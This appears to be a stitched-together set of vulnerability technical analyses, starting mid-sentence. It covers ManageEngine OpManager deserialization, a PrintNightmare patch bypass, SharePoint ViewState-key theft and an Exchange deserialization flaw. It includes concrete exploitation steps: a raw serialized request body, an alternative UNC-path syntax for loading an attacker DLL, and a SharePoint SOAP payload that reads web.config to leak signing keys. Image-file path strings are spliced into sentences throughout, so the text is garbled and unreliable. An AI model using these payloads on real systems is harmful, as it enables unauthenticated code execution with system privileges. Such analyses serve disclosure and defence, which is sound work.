Such a vulnerable invocations is present in the class’s process method. This class is located in the AdventNetSUMServer.jar file. It can be accessed by sending a serialized SUMPDU object with an OPEN_SESSION request (see SUMHttpRequestHandler.processSumPDU). This will cause SUMServerIOAndDataAnalyzer to be initialized as the socket client. Once initialized, the data field of serializedSUMPDU object will be passed to the SUMServerIOAndDataAnalyzer.process method where the vulnerable serialization operations can occur.

Technical Analysis

A deserialization vulnerability exists in the ManageEngine OpManager platform that can be leveraged by an unauthenticated attacker to execute code as the application user which is typically NT AUTHORITY\SYSTEM on Windows and root on Linux.

Exploitation can be broken down into three high level steps.

  1. Issue an HTTP request to the application’s page, to have an HTTP session cookie issued. For this purpose the login page works just fine.
  2. Issue a POST request to the /servlets/ resource with a body of \xac\xed\x00\x05\x77\x04\x00\x00\x03\xea which is 1002 serialized as a Java int. This command associates a handler to the HTTP session that is then exploited.
  3. Issue a POST request to the /servlets/ resource. The body of this request is the length in bytes of the serialized Java payload as a 32-bit unsigned, big endian value followed by theserialized Java payload.

In Ruby the POST body would be made like:

data = [ java_payload.length ].pack('N') + java_payload

Step 3 can be repeated multiple times to execute a different serialized Java payload to for example, execute multiple OS commands.

The default OpManager instance is vulnerable out of the box, there is no configuration necessary and a user never needs to have logged in. Technically, the HTTP request handler may fail in step 2 but it does so after the necessary request handler has been associated with the session, allowing exploitation to proceed regardless.

A patched version (v12.5.233 and later) will not respond with a body starting with \xac\ed\x00\x05 which can be used by an attacker to check for exploitability. The version number can also be found in the source of the login page by searching for paths beginning with /cachestart/#####/ where ##### is the 5-digit version number.

A bypass for the patch issued by ManageEngine is identified as CVE-2021-3287.

Technical Analysis

CVE-2021-34527 is related to the previous CVE-2021-1675. This fixes a vulnerability whereby an authenticated attacker can connect to the remote print service (via either MS-RPRN or MS-PAR) and add a driver using a custom DLL. Upon successful exploitation, the Print Spool service would load the attacker controlled DLL from either a remote UNC path or a local path. In both cases, the DLL is then executed with NT AUTHORITY\SYSTEM privileges.

The patch for CVE-2021-34527 is effective at preventing this attack only when Point and Print is disabled, which is thedefault setting. This can be configured by ensuring the registry key HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows NT\Printers\PointAndPrint NoWarningNoElevationOnInstall is 0. The system does not need to be rebooted to enforce the changed registry key. If that registry key is defined as 1, the vulnerability can still be exploited. With Point and Print enabled, a standard UNC path used over the MS-RPRN vector (via RpcAddPrinterDriverEx) will fail with ERROR_INVALID_PARAMETER. This can be bypassed by converting the UNC path from the standard syntax (\\\public\payload.dll) to the alternative syntax (\??\UNC\\public\payload.dll).

With the patches applied and Point and Print disabled, the affected calls to RpcAddPrinterDriverEx will return ERROR_ACCESS_DENIED.

Technical Analysis

The EditingPageParser.VerifyControlOnSafeList method fails to properly validate user-supplied data. This can be leveraged by an attacker to leak sensitive information in rendered-preview content. This can be used to leak the ViewState validation key and then use it to sign a crafted object that will trigger code execution when deserialized. In order to leverage this vulnerability, an attacker must have the SPBasePermissions.ManageLists permission on the targeted SharePoint site. By default, SharePoint users may create their own site where they will havethis permission.

The single request required to trigger the vulnerability involves two components, one document escaped and embedded within a SOAP request.

Inner Document

In this document it is required that the Namespace attribute be "System.Web.UI.WebControls " with the trailing space.

<%@ Register TagPrefix="WebPartPages" Namespace="Microsoft.SharePoint.WebPartPage" Assembly="Microsoft.SharePoint, Version=, Culture=neutral, PublicKeyToken=71e9bce111e9429c" %><%@ Register TagPrefix="att" Namespace="System.Web.UI.WebControls " Assembly="System.Web, Version=, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a" %>
<WebPartPages:XsltListFormWebPart id="id01" runat="server" ListDisplayName="Documents" WebId="WEB ID">
    <att:xmldatasource runat="server" id="XDS1"
      datafile="c:/inetpub/wwwroot/wss/VirtualDirectories/80/web.config" />
      <xsl:stylesheet version="2.0" xmlns:xsl="">
          <xsl:output method="xml" indent="yes" />
          <xsl:template match="/"><xsl:copy-of select="." />

The WEB ID needs to be updated to the UUID of the targeted site which is easily obtainable via a GET request to _api/web/id.

Outer Document

The inner document is embedded within the webPartXml node and the entire body is sent as a SOAP request to the _vti_bin/WebPartPages.asmx endpoint as a POST request.

<soap12:Envelope xmlns:xsi="" xmlns:xsd="" xmlns:soap12="">
    <RenderWebPartForEdit xmlns="">
      <webPartXml>INNER DOCUMENT</webPartXml>The response from this request will contain quite a few things, but embedded a couple of documents deep will ultimately be the validation key used for the server’s ViewState.

.NET Serialization Gadget Chain

With the validation key, an attacker can use the ysoserial.NET project to create a payload using the TypeConfuseDelegate gadget chain and the LosFormatter. Code execution will be obtained within the context of the SharePoint application with the services of the SharePointservice.

For more information, see the original ZDI on which this analysis is based.

Technical Analysis

This vulnerability is a deserialization flaw in Exchange’s MeetingPollProposeOptionsPayload.GetRequests() method. This method can be triggered with an HTTP request and when issued a specially crafted XML payload, can lead to OS command execution within the context of the w3wp.exe process which has SYSTEM level privileges.

The XML payload is a .NET serialized object which contains the ObjectDataProvider chain from YSoSerial.NET and the DataContractSerializer formatter. The payload needs to be crafted to be compatible with the way in which Exchange deserializes it.

Since many users have sufficient access to authenticate to Exchange, this could easily be used in conjunction with a phishing or password guessing attack and lead to an initial breach.

There was a blog detailing this vulnerability and a PoC written by the same author. The PoC is non-functional without being edited.